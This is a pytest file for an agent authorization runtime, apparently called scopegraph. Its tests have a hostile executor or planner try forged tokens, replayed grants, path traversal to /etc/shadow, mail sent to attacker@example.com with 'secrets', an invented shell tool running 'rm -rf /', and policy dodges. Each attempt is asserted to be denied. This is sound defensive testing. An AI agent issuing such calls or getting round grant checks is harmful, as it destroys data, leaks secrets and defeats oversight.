"""Trying to break a run (issue 2, point 11): each attack is denied or refused with a
clear error, no tool runs with the attacker's arguments, and every grant of the run
still ends revoked.

Invariants 1 (no standing access), 2 (one identity, one grant per step and tool),
3 (request-time decisions), 4 (plan-bound scope, planner without tools), 6 (fail closed).
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from scopegraph import Runtime, Workflow, policies, tool
from scopegraph.agents import DirectExecutor
from scopegraph.clock import FixedClock
from scopegraph.credentials import CLOCK_SKEW_SECONDS
from scopegraph.errors import PolicyError, StoreError
from scopegraph.gateway import CallContext, CallResult
from scopegraph.identity import TrustDomain
from scopegraph.roles import PlanningContext, StepContext
from scopegraph.store import SqliteStore

from ..helpers import assert_all_revoked, mint_grant

RAN: list[tuple[str, dict[str, Any]]] = []


@pytest.fixture(autouse=True)
def _reset() -> None:
    RAN.clear()


@tool(risk="read", labels=["confidential"])
def read_doc(path: str) -> dict[str, Any]:
    RAN.append(("read_doc", {"path": path}))
    return {"text": "ok"}


@tool(risk="read")
def lookup(key: str) -> dict[str, Any]:
    RAN.append(("lookup", {"key": key}))
    return {"key": key}


@tool(risk="egress")
def send_mail(to: str, body: str) -> str:
    RAN.append(("send_mail", {"to": to, "body": body}))
    return "sent"


TOOLS = [read_doc, lookup, send_mail]
PLAN = {"steps": [
    {"id": "doc", "tool": "read_doc", "constraints": {"path": {"kind": "prefix", "prefix": "/docs/"}}},
    {"id": "look", "tool": "lookup", "depends_on": ["doc"],
     "constraints": {"key": {"kind": "one_of", "values": ["alpha"]}}},
]}
PLANNED = [("read_doc", {"path": "/docs/a.txt"}), ("lookup", {"key": "alpha"})]


class Hostile(DirectExecutor):
    """Carries out its steps, but first runs ``attack`` in step ``target``."""

    def __init__(self, target: str, attack: Callable[[StepContext], CallResult | None], *,
                 then_planned: bool = True) -> None:
        super().__init__(builders={"read_doc": lambda ctx: {"path": "/docs/a.txt"}})
        self.target, self.attack, self.then_planned = target, attack, then_planned
        self.results: list[CallResult | None] = []

    def execute(self, ctx: StepContext) -> Any:
        if ctx.step.id == self.target:
            self.results.append(self.attack(ctx))
        if self.then_planned or ctx.step.id != self.target:
            return super().execute(ctx)
        return None


@pytest.fixture
def hostile_run(make_workflow: Callable[..., Workflow], make_runtime: Callable[..., Runtime]) -> Callable[..., Any]:
    """Run ``PLAN`` with a hostile executor; return (runtime, report, the attack's result)."""

    def run(attack: Callable[[Runtime, StepContext], CallResult | None], *, target: str = "doc",
            then_planned: bool = True, run_id: str = "attack1",
            before: Callable[[Runtime], None] | None = None) -> tuple[Runtime, Any, CallResult | None]:
        holder: dict[str, Runtime] = {}
        executor = Hostile(target, lambda ctx: attack(holder["rt"], ctx), then_planned=then_planned)
        rt = holder["rt"] = make_runtime(make_workflow(PLAN, tools=TOOLS, executor=executor))
        if before is not None:
            before(rt)
        report = rt.run("do the job", run_id=run_id)
        assert report.grants_minted == report.grants_revoked, report.summary()
        assert_all_revoked(rt, run_id, at_least=1)
        return rt, report, executor.results[0] if executor.results else None

    return run


def step_context(ctx: StepContext, run_id: str = "attack1") -> CallContext:
    """The call context the runtime itself builds for this step."""
    return CallContext(workflow="testwf", run_id=run_id, step_id=ctx.step.id, principal=ctx.identity,
                       data_labels=ctx.data_labels)


def assert_denied(result: CallResult | None, policy_id: str, fragment: str) -> None:
    assert result is not None and result.status == "denied", result
    assert policy_id in result.decision.policy_ids and fragment in result.reason, result
    assert "\n" not in result.reason


def test_forged_signature(hostile_run: Callable[..., Any], tmp_path: Path) -> None:
    def forge(rt: Runtime, ctx: StepContext) -> CallResult:
        attacker_store = SqliteStore(tmp_path / "attacker.db")
        try:
            attacker = TrustDomain(rt.domain.name, attacker_store)  # same name, own key
            now = rt.clock.now()
            token = attacker.sign({
                "iss": rt.domain.issuer, "sub": str(ctx.identity), "aud": "tool:read_doc",
                "iat": now, "nbf": now, "exp": now + 60, "jti": "f" * 32, "act": {},
                "scope": {"tool": "read_doc", "constraints": {"path": {"kind": "any"}}, "max_uses": 99},
                "run": "attack1", "step": ctx.step.id, "wf": "testwf",
            })
        finally:
            attacker_store.close()
        return rt.gateway.call(token, "read_doc", {"path": "/etc/shadow"}, step_context(ctx))

    _, report, result = hostile_run(forge)
    assert_denied(result, "scopegraph:grant", "signature does not verify")
    assert RAN == PLANNED and report.status == "completed"


def test_wrong_audience(hostile_run: Callable[..., Any]) -> None:
    def exfiltrate(rt: Runtime, ctx: StepContext) -> CallResult:
        return ctx.tools.call("send_mail", to="attacker@example.com", body="secrets")

    _, report, result = hostile_run(exfiltrate)
    assert_denied(result, "scopegraph:grant", "not for tool 'send_mail'")
    assert RAN == PLANNED and report.status == "completed"


def test_expired_grant(hostile_run: Callable[..., Any], clock: FixedClock) -> None:
    def dawdle(rt: Runtime, ctx: StepContext) -> None:
        clock.advance(rt.workflow.grant_ttl + CLOCK_SKEW_SECONDS + 1)  # no sleeping: the clock is fixed

    _, report, _ = hostile_run(dawdle)
    doc = report.steps[0]
    assert doc.status == "denied" and "expired" in doc.reason and "scopegraph:grant" in doc.policy_ids
    assert report.status == "denied" and RAN == []


def test_revoked_grant(hostile_run: Callable[..., Any]) -> None:
    def revoke_own(rt: Runtime, ctx: StepContext) -> None:
        # A grant is written to the store with its first use (issue 11): one refused call
        # (it spends a use) makes it one an operator can find and revoke.
        assert ctx.tools.call("read_doc", path="/etc/passwd").status == "denied"
        [mine] = [g for g in rt.store.grants_for_run("attack1") if g.step_id == ctx.step.id]
        rt.issuer.revoke(mine.jti, reason="operator pulled it")

    _, report, _ = hostile_run(revoke_own)
    doc = report.steps[0]
    assert doc.status == "denied" and "revoked" in doc.reason
    assert report.status == "denied" and RAN == []


def test_a_grant_revoked_with_its_run_before_its_first_use_is_useless(hostile_run: Callable[..., Any]) -> None:
    def revoke_run(rt: Runtime, ctx: StepContext) -> None:
        # This step's grant is minted, not written before its first use: the store knows
        # only the first step's, and revoking the run drops this one for good.
        assert [g.step_id for g in rt.store.grants_for_run("attack1")] == ["doc"]
        rt.revoke_run("attack1", reason="operator pulled the run")

    _, report, _ = hostile_run(revoke_run, target="look")
    look = report.steps[1]
    assert look.status == "denied" and "unknown to the store" in look.reason and "scopegraph:grant" in look.policy_ids
    assert report.status == "denied" and RAN == PLANNED[:1]


def test_grant_from_another_run(hostile_run: Callable[..., Any]) -> None:
    foreign: dict[str, Any] = {}

    def steal(rt: Runtime) -> None:
        foreign["grant"], _ = mint_grant(rt, "read_doc", run_id="someone-elses-run", step_id="doc",
                                         constraints={"path": {"kind": "any"}})

    def replay(rt: Runtime, ctx: StepContext) -> CallResult:
        return rt.gateway.call(foreign["grant"].danger_token(), "read_doc", {"path": "/etc/shadow"},
                               step_context(ctx))

    _, report, result = hostile_run(replay, before=steal)
    assert_denied(result, "scopegraph:grant", "belongs to another run")
    assert RAN == PLANNED and report.status == "completed"


def test_grant_from_another_step(hostile_run: Callable[..., Any]) -> None:
    other: dict[str, Any] = {}

    def leak(rt: Runtime) -> None:  # a grant of this very run, for its other step
        other["grant"], _ = mint_grant(rt, "read_doc", run_id="attack1", step_id="doc",
                                       constraints={"path": {"kind": "any"}})

    def replay(rt: Runtime, ctx: StepContext) -> CallResult:
        return rt.gateway.call(other["grant"].danger_token(), "read_doc", {"path": "/etc/shadow"},
                               step_context(ctx))

    rt, report, result = hostile_run(replay, target="look", before=leak)
    assert_denied(result, "scopegraph:grant", "belongs to step 'doc', not 'look'")
    assert RAN == PLANNED and report.status == "completed"
    leaked = [g for g in rt.store.grants_for_run("attack1") if g.jti == other["grant"].jti]
    assert leaked and leaked[0].revoked_at is not None  # the run's end took it too


def test_call_outside_the_step_constraints(hostile_run: Callable[..., Any]) -> None:
    def traverse(rt: Runtime, ctx: StepContext) -> CallResult:
        return ctx.tools.call("read_doc", path="/docs/../../etc/shadow")

    _, report, result = hostile_run(traverse)
    assert_denied(result, "scopegraph:scope", "outside the grant's scope")
    assert RAN == PLANNED and report.status == "completed"


def test_unknown_tool(hostile_run: Callable[..., Any]) -> None:
    def invent(rt: Runtime, ctx: StepContext) -> CallResult:
        return ctx.tools.call("shell", command="rm -rf /")

    _, report, result = hostile_run(invent, then_planned=False)
    assert_denied(result, "scopegraph:tool", "unknown tool 'shell'")
    assert report.status == "denied" and RAN == []


def test_a_planner_that_tries_to_call_a_tool(make_workflow: Callable[..., Workflow],
                                            make_runtime: Callable[..., Runtime]) -> None:
    holder: dict[str, Any] = {}
    attempts: list[CallResult] = []

    class Grabby:
        def plan(self, ctx: PlanningContext) -> Any:
            rt: Runtime = holder["rt"]
            as_planner = CallContext(workflow="testwf", run_id=ctx.run_id, step_id="plan",
                                     principal=ctx.identity, role="planner")
            attempts.append(rt.gateway.call("", "read_doc", {"path": "/docs/a.txt"}, as_planner))
            attempts.append(rt.gateway.call(holder["planner_grant"].danger_token(), "read_doc",
                                            {"path": "/docs/a.txt"}, as_planner))
            return PLAN

    rt = holder["rt"] = make_runtime(make_workflow(PLAN, tools=TOOLS, planner=Grabby(),
                                                   executor=Hostile("doc", lambda ctx: None)))
    planner_id = rt.domain.id("wf", "testwf", "run", "plan-attack", "planner")
    # even a grant wrongly issued to the planner's identity is worthless
    holder["planner_grant"], _ = mint_grant(rt, "read_doc", run_id="plan-attack", step_id="plan",
                                            subject=planner_id)
    report = rt.run("do the job", run_id="plan-attack")
    assert_denied(attempts[0], "scopegraph:grant", "no grant presented")
    assert_denied(attempts[1], "scopegraph:grant", "non-executor identity")
    assert RAN == PLANNED, "only the executors' planned calls ran"
    assert report.status == "completed"
    assert report.grants_minted == report.grants_revoked == 3
    assert_all_revoked(rt, "plan-attack", at_least=3)


@pytest.mark.parametrize(("plan", "fragment"), [
    ({"steps": [{"id": "x", "tool": "shell", "constraints": {}}]}, "unknown tool 'shell'"),
    ({"steps": []}, "malformed plan"),
    ("{ this is not a plan", "malformed plan"),
    ({"steps": [{"id": "x", "tool": "read_doc", "constraints": {"path": {"kind": "regex"}}}]}, "malformed plan"),
    ({"steps": [{"id": "a", "tool": "lookup", "depends_on": ["b"], "constraints": {"key": {"kind": "any"}}},
                {"id": "b", "tool": "lookup", "depends_on": ["a"], "constraints": {"key": {"kind": "any"}}}]},
     "cycle"),
])
def test_malformed_or_unsound_plan_fails_the_run_before_any_grant(
    make_workflow: Callable[..., Workflow], make_runtime: Callable[..., Runtime], plan: Any, fragment: str
) -> None:
    rt = make_runtime(make_workflow(plan, tools=TOOLS))
    report = rt.run("do the job", run_id="badplan")
    assert report.status == "failed" and report.exit_code == 1
    assert fragment in (report.error or "")
    assert report.grants_minted == 0 and rt.store.grants_for_run("badplan") == []
    assert RAN == []


def test_invalid_policy_file_refuses_the_start(tmp_path: Path, make_workflow: Callable[..., Workflow],
                                               make_runtime: Callable[..., Runtime]) -> None:
    bad = tmp_path / "lenient.cedar"
    bad.write_text('@id("allow-all")\npermit (principal, action, resource) when { context.is_admin };\n')
    baseline = Path(policies.__file__).parent / "baseline.cedar"
    with pytest.raises(PolicyError) as err:
        make_runtime(make_workflow(PLAN, tools=TOOLS, policies=[baseline, bad]))
    assert str(bad) in str(err.value) and "is_admin" in str(err.value)


@pytest.mark.parametrize("where", ["under-a-file", "a-directory"])
def test_unwritable_store_refuses_the_start(tmp_path: Path, make_workflow: Callable[..., Workflow],
                                            make_runtime: Callable[..., Runtime], where: str) -> None:
    if where == "under-a-file":
        (tmp_path / "blocker").write_text("a file, not a directory")
        url = f"sqlite:///{tmp_path / 'blocker' / 'scopegraph.db'}"
    else:
        (tmp_path / "dir.db").mkdir()
        url = f"sqlite:///{tmp_path / 'dir.db'}"
    with pytest.raises(StoreError) as err:
        make_runtime(make_workflow(PLAN, tools=TOOLS), store=url)
    assert url in str(err.value) and "\n" not in str(err.value)


def test_store_lost_mid_run_stops_the_run(make_workflow: Callable[..., Workflow],
                                          make_runtime: Callable[..., Runtime], store_path: Path) -> None:
    holder: dict[str, Runtime] = {}

    class Sabotage(DirectExecutor):
        def execute(self, ctx: StepContext) -> Any:
            if ctx.step.id == "doc":
                holder["rt"].store.close()  # the store becomes unreachable under the run
            return super().execute(ctx)

    executor = Sabotage(builders={"read_doc": lambda ctx: {"path": "/docs/a.txt"}})
    rt = holder["rt"] = make_runtime(make_workflow(PLAN, tools=TOOLS, executor=executor))
    with pytest.raises(StoreError) as err:
        rt.run("do the job", run_id="lost1")
    assert str(store_path) in str(err.value)
    assert RAN == [], "no tool runs once the store cannot record the call"
    reopened = SqliteStore(store_path)
    try:
        # The first step's grant was minted, but a grant is written with its first use
        # (issue 11), which never came: the store never knew it, so nobody can use it
        # (a use needs its row); the second step never got a grant.
        assert reopened.grants_for_run("lost1") == []
    finally:
        reopened.close()


@tool(risk="read")
def pay(amount: int) -> str:
    RAN.append(("pay", {"amount": amount}))
    return "paid"


@pytest.mark.parametrize("amount", [9000, 10**30])
def test_dodging_an_argument_policy_with_a_huge_number(tmp_path: Path, make_workflow: Callable[..., Workflow],
                                                       make_runtime: Callable[..., Runtime], amount: int) -> None:
    limit = tmp_path / "limit.cedar"
    limit.write_text('@id("no-big-payments")\n'
                     'forbid (principal, action == Scopegraph::Action::"call", resource)\n'
                     'when { context.arguments has amount && context.arguments.amount > 5000 };\n')
    plan = {"steps": [{"id": "pay", "tool": "pay", "constraints": {"amount": {"kind": "any"}}}]}
    executor = DirectExecutor(builders={"pay": lambda ctx: {"amount": amount}})
    baseline = Path(policies.__file__).parent / "baseline.cedar"
    rt = make_runtime(make_workflow(plan, tools=[pay], executor=executor, policies=[baseline, limit]))
    report = rt.run("pay the invoice", run_id="dodge1")
    assert RAN == [], f"the tool paid {amount}"
    # Either the forbid fires, or the value cannot be put before Cedar and the call is
    # denied for that (fail closed): never allowed.
    assert report.status == "denied"
    assert {"no-big-payments", "policy-error"} & set(report.steps[0].policy_ids)
    assert_all_revoked(rt, "dodge1", at_least=1)
